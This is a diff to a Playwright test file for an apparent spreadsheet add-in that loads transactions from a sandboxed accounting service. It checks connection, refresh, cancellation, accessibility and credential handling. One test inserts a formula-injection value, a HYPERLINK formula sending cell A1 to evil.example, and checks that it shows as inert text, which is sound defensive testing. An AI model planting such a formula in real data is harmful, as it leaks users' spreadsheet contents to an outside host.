@@ -5,24 +5,9 @@
  */
 import type { Page } from 'playwright-core';
 import { de, en, it as italian } from '../../src/i18n/catalog';
-import { eventually, expectAccessible, expectClean, OFFICE_JS_TELEMETRY, newSession, openPreview, pane, previewApi, saveScreenshot, screenshotPane, startApp, type App, type Session } from './support';
+import { eventually, expectAccessible, expectClean, OFFICE_JS_TELEMETRY, openPreview, pane, previewApi, saveScreenshot, screenshotPane, useApp } from './support';
 
-let app: App;
-let session: Session;
-
-beforeAll(async () => {
-  app = await startApp({ transactions: 3000 });
-});
-afterAll(async () => {
-  await app?.close();
-});
-beforeEach(async () => {
-  session = await newSession(app.browser);
-});
-afterEach(async () => {
-  app.sandbox.normalResponses();
-  await session?.close();
-});
+const suite = useApp({ transactions: 3000 });
 
 async function connectDemo(page: Page): Promise<void> {
   await pane(page).getByRole('button', { name: en['pane.connect.demo'] }).click();
@@ -37,19 +22,19 @@ async function load(page: Page, table: string, action: 'Load' | 'Refresh' = 'Loa
 }
 
 async function serviceCount(path: string): Promise<number> {
-  const token = await fetch(new URL('auth/token/', app.sandbox.url), {
+  const token = await fetch(new URL('auth/token/', suite.app.sandbox.url), {
     method: 'POST',
     headers: { 'content-type': 'application/json' },
-    body: JSON.stringify({ grant_type: 'client_credentials', client_id: app.sandbox.credentials.clientId, client_secret: app.sandbox.credentials.clientSecret }),
+    body: JSON.stringify({ grant_type: 'client_credentials', client_id: suite.app.sandbox.credentials.clientId, client_secret: suite.app.sandbox.credentials.clientSecret }),
   });
   const { access_token } = (await token.json()) as { access_token: string };
-  const page = await fetch(new URL(`${path}?page_size=1`, app.sandbox.url), { headers: { authorization: `Bearer ${access_token}` } });
+  const page = await fetch(new URL(`${path}?page_size=1`, suite.app.sandbox.url), { headers: { authorization: `Bearer ${access_token}` } });
   return ((await page.json()) as { count: number }).count;
 }
 
 test('demo: connect, load transactions and invoices (row counts as the service has them), refresh after the service changed', async () => {
-  const { page } = session;
-  await openPreview(page, app.url, app.sandbox.url);
+  const { page } = suite.session;
+  await openPreview(page, suite.app.url, suite.app.sandbox.url);
   await connectDemo(page);
   const preview = previewApi(page);
 
@@ -60,16 +45,16 @@ test('demo: connect, load transactions and invoices (row counts as the service h
   await expect(page.getByTestId('preview-status').textContent()).resolves.toMatch(/Invoices/);
 
   const before = (await preview.tableRowCount('Transactions')) ?? 0;
-  await app.sandbox.addTransaction({ amount: '-12.34', purpose: 'Added while the workbook was open' });
+  await suite.app.sandbox.addTransaction({ amount: '-12.34', purpose: 'Added while the workbook was open' });
   await load(page, 'Transactions', 'Refresh');
   await eventually(async () => expect(await preview.tableRowCount('Transactions')).toBe(before + 1));
   await expect(pane(page).getByText('changes only').first().isVisible()).resolves.toBe(true);
-  expectClean(session, [OFFICE_JS_TELEMETRY]);
+  expectClean(suite.session, [OFFICE_JS_TELEMETRY]);
 });
 
 test('by keyboard alone: connect with the demo, reach Data, load a table; choosing a loaded table shows its sheet', async () => {
-  const { page } = session;
-  await openPreview(page, app.url, app.sandbox.url);
+  const { page } = suite.session;
+  await openPreview(page, suite.app.url, suite.app.sandbox.url);
   const p = pane(page);
   const demo = p.getByRole('button', { name: en['pane.connect.demo'] });
   await demo.waitFor();
@@ -94,19 +79,19 @@ test('by keyboard alone: connect with the demo, reach Data, load a table; choosi
   await eventually(async () => expect(await page.getByTestId('preview-status').textContent()).toMatch(/Sheet: Categories/));
   await p.getByRole('button', { name: 'Plans', exact: true }).click();
   await eventually(async () => expect(await page.getByTestId('preview-status').textContent()).toMatch(/Sheet: Plans · Table Plans: \d+ rows/));
-  expectClean(session, [OFFICE_JS_TELEMETRY]);
+  expectClean(suite.session, [OFFICE_JS_TELEMETRY]);
 });
 
 test('cancel mid-pull: the previous table stays and the pane says so', async () => {
-  const { page } = session;
-  await openPreview(page, app.url, app.sandbox.url);
+  const { page } = suite.session;
+  await openPreview(page, suite.app.url, suite.app.sandbox.url);
   await connectDemo(page);
   const preview = previewApi(page);
   await load(page, 'Transactions');
   const rows = await preview.tableRowCount('Transactions');
   const firstCell = await preview.cellText('Transactions', 1, 0);
 
-  app.sandbox.slowResponses(400);
+  suite.app.sandbox.slowResponses(400);
   await pane(page).getByRole('button', { name: `More for Transactions` }).click();
   await pane(page).getByRole('menuitem', { name: en['pane.data.fullRefresh'] }).click();
   await pane(page).getByRole('progressbar').waitFor();
@@ -115,19 +100,19 @@ test('cancel mid-pull: the previous table stays and the pane says so', async () 
   await expect(pane(page).getByText(en['pane.data.keptTable']).first().isVisible()).resolves.toBe(true);
   expect(await preview.tableRowCount('Transactions')).toBe(rows);
   expect(await preview.cellText('Transactions', 1, 0)).toBe(firstCell);
-  expectClean(session, [OFFICE_JS_TELEMETRY]);
+  expectClean(suite.session, [OFFICE_JS_TELEMETRY]);
 });
 
 test.each(['light', 'dark'] as const)('a service that asks to wait: the pane says so and for how long, and Cancel ends the wait at once with the table kept (%s)', async (theme) => {
-  const { page } = session;
+  const { page } = suite.session;
   await page.emulateMedia({ reducedMotion: 'reduce' });
-  await openPreview(page, app.url, app.sandbox.url, { theme });
+  await openPreview(page, suite.app.url, suite.app.sandbox.url, { theme });
   await connectDemo(page);
   const preview = previewApi(page);
   await load(page, 'Transactions');
   const rows = await preview.tableRowCount('Transactions');
 
-  app.sandbox.throttle(30);
+  suite.app.sandbox.throttle(30);
   await pane(page).getByRole('button', { name: `More for Transactions` }).click();
   await pane(page).getByRole('menuitem', { name: en['pane.data.fullRefresh'] }).click();
   await pane(page).getByText(en['pane.phase.waiting'], { exact: true }).waitFor();
@@ -139,17 +124,17 @@ test.each(['light', 'dark'] as const)('a service that asks to wait: the pane say
   await pane(page).getByText('Transactions: cancelled.').first().waitFor({ timeout: 15_000 });
   expect(Date.now() - cancelled).toBeLessThan(15_000); // not the 30 s the service asked for
   expect(await preview.tableRowCount('Transactions')).toBe(rows);
-  expectClean(session, [OFFICE_JS_TELEMETRY, /429/]);
+  expectClean(suite.session, [OFFICE_JS_TELEMETRY, /429/]);
 });
 
 test('wrong credentials and the edition without the API show their messages; Italian changes the pane and the service', async () => {
-  const { page } = session;
-  await openPreview(page, app.url, app.sandbox.url);
+  const { page } = suite.session;
+  await openPreview(page, suite.app.url, suite.app.sandbox.url);
   const p = pane(page);
   // First run: no connection yet, so the form is open.
   const englishForm = p.getByRole('form', { name: en['pane.connect.new'] });
   await englishForm.getByLabel(en['pane.connect.field.name']).fill('ACME');
-  await englishForm.getByLabel(en['pane.connect.field.baseUrl']).fill(app.sandbox.url);
+  await englishForm.getByLabel(en['pane.connect.field.baseUrl']).fill(suite.app.sandbox.url);
   await englishForm.getByLabel(en['pane.connect.field.clientId']).fill('demo-company');
   await englishForm.getByLabel(en['pane.connect.field.secret']).fill('wrong');
   await englishForm.getByRole('button', { name: en['pane.connect.connect'] }).click();
@@ -161,11 +146,11 @@ test('wrong credentials and the edition without the API show their messages; Ita
   await p.getByRole('tab', { name: italian['pane.tab.connect'] }).click();
   await expect(p.getByRole('button', { name: italian['pane.connect.demo'] }).isVisible()).resolves.toBe(true);
 
-  const basic = app.sandbox.running.credentials.basic;
+  const basic = suite.app.sandbox.running.credentials.basic;
   await p.getByRole('button', { name: italian['pane.connect.new'] }).click();
   const form = p.getByRole('form', { name: italian['pane.connect.new'] });
   await form.getByLabel(italian['pane.connect.field.name']).fill('Base');
-  await form.getByLabel(italian['pane.connect.field.baseUrl']).fill(app.sandbox.url);
+  await form.getByLabel(italian['pane.connect.field.baseUrl']).fill(suite.app.sandbox.url);
   await form.getByLabel(italian['pane.connect.field.clientId']).fill(basic.clientId);
   await form.getByLabel(italian['pane.connect.field.secret']).fill(basic.clientSecret);
   await form.getByRole('button', { name: italian['pane.connect.connect'] }).click();
@@ -176,32 +161,32 @@ test('wrong credentials and the edition without the API show their messages; Ita
   await expectAccessible(page, { include: ['#pane'] });
   expect(de['connect.error.edition']).not.toBe(italian['connect.error.edition']);
   // The refused token request and the refused read are the browser's own console lines for HTTP 400/403.
-  expectClean(session, [OFFICE_JS_TELEMETRY, /^Failed to load resource: the server responded with a status of 40[03] /]);
+  expectClean(suite.session, [OFFICE_JS_TELEMETRY, /^Failed to load resource: the server responded with a status of 40[03] /]);
 });
 
 test('a hostile purpose shows as text in the grid, never as a formula', async () => {
   const hostile = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")';
-  await app.sandbox.addTransaction({ amount: '-1.00', purpose: hostile });
-  const { page } = session;
-  await openPreview(page, app.url, app.sandbox.url);
+  await suite.app.sandbox.addTransaction({ amount: '-1.00', purpose: hostile });
+  const { page } = suite.session;
+  await openPreview(page, suite.app.url, suite.app.sandbox.url);
   await connectDemo(page);
   await load(page, 'Transactions');
   const preview = previewApi(page);
   const cell = await preview.findCell('Transactions', hostile);
   expect(cell).toMatchObject({ valueType: 'String' });
   expect(await preview.cellText('Transactions', cell?.row ?? -1, cell?.col ?? -1)).toBe(hostile);
-  expectClean(session, [OFFICE_JS_TELEMETRY]);
+  expectClean(suite.session, [OFFICE_JS_TELEMETRY]);
 });
 
 test('a reload keeps the workbook; with "remember" off it asks only for the secret, which is in no setting or cell', async () => {
-  const { page } = session;
-  const secret = app.sandbox.credentials.clientSecret;
-  await openPreview(page, app.url, app.sandbox.url);
+  const { page } = suite.session;
+  const secret = suite.app.sandbox.credentials.clientSecret;
+  await openPreview(page, suite.app.url, suite.app.sandbox.url);
   const p = pane(page);
   const form = p.getByRole('form', { name: en['pane.connect.new'] });
   await form.getByLabel(en['pane.connect.field.name']).fill('Our company');
-  await form.getByLabel(en['pane.connect.field.baseUrl']).fill(app.sandbox.url);
-  await form.getByLabel(en['pane.connect.field.clientId']).fill(app.sandbox.credentials.clientId);
+  await form.getByLabel(en['pane.connect.field.baseUrl']).fill(suite.app.sandbox.url);
+  await form.getByLabel(en['pane.connect.field.clientId']).fill(suite.app.sandbox.credentials.clientId);
   await form.getByLabel(en['pane.connect.field.secret']).fill(secret);
   await form.getByRole('checkbox', { name: en['pane.connect.remember'] }).uncheck();
   await form.getByRole('button', { name: en['pane.connect.connect'] }).click();
@@ -228,7 +213,7 @@ test('a reload keeps the workbook; with "remember" off it asks only for the secr
   await p.getByText(en['pane.state.online'], { exact: true }).waitFor();
   await p.getByRole('tab', { name: en['pane.tab.data'] }).click();
   await expect(p.getByRole('button', { name: 'Refresh Categories', exact: true }).isVisible()).resolves.toBe(true);
-  expectClean(session, [OFFICE_JS_TELEMETRY]);
+  expectClean(suite.session, [OFFICE_JS_TELEMETRY]);
 });
 
 /** axe inside the pane's frame only (the whole page is checked once per theme). */
@@ -236,11 +221,11 @@ const PANE = { include: ['#pane'] };
 
 describe.each(['light', 'dark'] as const)('%s theme', (theme) => {
   test('every view has no serious or critical accessibility violation; screenshots for the README', async () => {
-    const { page } = session;
+    const { page } = suite.session;
     await page.setViewportSize({ width: 1280, height: 860 });
     // Fluent's toasts and tabs fade in: axe would measure contrast half-way through an animation.
     await page.emulateMedia({ reducedMotion: 'reduce' });
-    await openPreview(page, app.url, app.sandbox.url, { theme });
+    await openPreview(page, suite.app.url, suite.app.sandbox.url, { theme });
     const p = pane(page);
     await p.getByRole('button', { name: en['pane.connect.demo'] }).waitFor();
     await expectAccessible(page, PANE);
@@ -255,12 +240,12 @@ describe.each(['light', 'dark'] as const)('%s theme', (theme) => {
 
     await p.getByRole('tab', { name: en['pane.tab.data'] }).click();
     await expectAccessible(page, PANE);
-    app.sandbox.slowResponses(1500);
+    suite.app.sandbox.slowResponses(1500);
     await p.getByRole('button', { name: 'Load Transactions', exact: true }).click();
     await p.getByText(/page \d+ of \d+/).first().waitFor();
     await screenshotPane(page, `pane-data-pulling-${theme}`);
     await expectAccessible(page, PANE);
-    app.sandbox.normalResponses();
+    suite.app.sandbox.normalResponses();
     await p.getByRole('button', { name: 'Refresh Transactions', exact: true }).waitFor({ timeout: 60_000 });
     // The lower part of the Data tab once loaded: the CASHFLOW functions' refresh.
     await p.getByTestId('refresh-functions').scrollIntoViewIfNeeded();
@@ -287,6 +272,6 @@ describe.each(['light', 'dark'] as const)('%s theme', (theme) => {
       await page.mouse.move(0, 0);
       await saveScreenshot(page, 'preview-transactions');
     }
-    expectClean(session, [OFFICE_JS_TELEMETRY]);
+    expectClean(suite.session, [OFFICE_JS_TELEMETRY]);
   });
 });
